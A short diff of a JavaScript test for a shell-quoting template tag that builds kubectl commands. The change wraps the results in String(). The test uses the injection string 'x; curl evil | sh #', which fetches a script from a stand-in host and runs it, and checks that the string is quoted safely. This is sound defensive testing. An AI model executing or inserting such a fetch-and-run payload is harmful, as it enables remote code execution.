@@ -69,9 +69,9 @@ describe('a suggested command', () => {
   it('takes what is put into it as words', () => {
     const name = 'x; curl evil | sh #';
     assert.equal(
-      command`kubectl get pod ${name} -n ${'a b'} ${['--as', "o'b"]}`,
+      String(command`kubectl get pod ${name} -n ${'a b'} ${['--as', "o'b"]}`),
       `kubectl get pod 'x; curl evil | sh #' -n 'a b' --as 'o'\\''b'`,
     );
-    assert.equal(command`kubectl get ${undefined}pods ${[]}-A`, 'kubectl get pods -A');
+    assert.equal(String(command`kubectl get ${undefined}pods ${[]}-A`), 'kubectl get pods -A');
   });
 });
